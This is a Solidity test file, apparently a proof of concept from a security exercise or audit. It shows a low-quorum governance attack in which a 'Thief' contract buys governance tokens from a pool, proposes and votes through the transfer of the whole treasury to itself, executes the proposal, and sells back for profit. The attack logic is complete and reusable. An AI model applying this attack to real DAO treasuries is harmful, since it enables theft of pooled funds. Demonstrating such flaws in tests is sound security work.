// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Acre} from "../low-quorum/src/Acre.sol";
import {Commons} from "../low-quorum/src/Commons.sol";
import {Token} from "../../shared/Erc20.sol";
import {Pool} from "../../shared/Pool.sol";

interface Vm {
    function startPrank(address) external;
    function stopPrank() external;
    function roll(uint256) external;
    function warp(uint256) external;
}

contract Thief {
    LowQuorumTest private immutable t = LowQuorumTest(msg.sender);
    uint256 private id;

    function buy(uint256 amount) external {
        t.usd().approve(address(t.pool()), type(uint256).max);
        t.acre().approve(address(t.pool()), type(uint256).max);
        t.pool().swap(amount, false, 0, address(this));
    }

    function propose() external {
        Token usd = t.usd();
        uint256 all = usd.balanceOf(address(t.commons()));
        id = t.commons().propose(address(usd), 0, abi.encodeCall(usd.transfer, (address(this), all)), "Upkeep");
    }

    function vote() external {
        t.commons().castVote(id, 1);
    }

    function finish() external {
        t.commons().execute(id);
        t.pool().swap(t.acre().balanceOf(address(this)) - 20_000 ether, true, 0, address(this));
    }
}

contract LowQuorumTest {
    event log_named_uint(string key, uint256 value);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant xenia = address(0x91);
    address private constant yuri = address(0x5927);
    address private constant zora = address(0x93);

    Token public usd;
    Acre public acre;
    Commons public commons;
    Pool public pool;
    Thief private thief;

    uint256 private time = 1_700_000_000;
    uint256 private number = 1;

    function setUp() public {
        _pass(0, 0);
        usd = new Token("Dollar", "USD");
        acre = new Acre(10_000_000 ether, address(this));
        commons = new Commons(acre);
        pool = new Pool(acre, usd);
        thief = new Thief();
        usd.mint(address(commons), 1_800_000 ether);
        usd.mint(xenia, 140_000 ether);
        usd.mint(address(thief), 40_000 ether);
        acre.transfer(xenia, 3_700_000 ether);
        acre.transfer(yuri, 3_200_000 ether);
        acre.transfer(zora, 100_000 ether);
        acre.transfer(address(thief), 20_000 ether);
        vm.startPrank(xenia);
        usd.approve(address(pool), type(uint256).max);
        acre.approve(address(pool), type(uint256).max);
        pool.addLiquidity(2_500_000 ether, 125_000 ether, xenia);
        vm.stopPrank();
        _pass(7_200, 1 days);
        vm.startPrank(xenia);
        commons.propose(address(usd), 0, abi.encodeCall(usd.transfer, (yuri, 5_000 ether)), "A fence for the pasture");
        vm.stopPrank();
        _pass(600, 2 hours);
        vm.startPrank(yuri);
        commons.castVote(1, 1);
        vm.stopPrank();
        vm.startPrank(xenia);
        commons.castVote(1, 1);
        vm.stopPrank();
    }

    function _pass(uint256 blocks, uint256 duration) private {
        number += blocks;
        time += duration;
        vm.roll(number);
        vm.warp(time);
    }

    function _attack(uint256 spent) private returns (uint256 profit) {
        thief.buy(spent);
        _pass(1, 12);
        thief.propose();
        _pass(300, 1 hours);
        thief.vote();
        _pass(36_000, 5 days);
        thief.finish();
        uint256 wealth = usd.balanceOf(address(thief)) + acre.balanceOf(address(thief)) / 20;
        profit = wealth - 41_000 ether;
        emit log_named_uint("profit in base units of usd", profit);
    }

    /// Enough for 180,000 acres, so that the attacker has the quorum.
    function test_attack_pays() public {
        require(_attack(9_727.46 ether) > 1_700_000 ether, "no profit");
    }

    /// All that the attacker has.
    function test_attack_pays_who_spends_all() public {
        require(_attack(40_000 ether) > 1_700_000 ether, "no profit");
    }
}
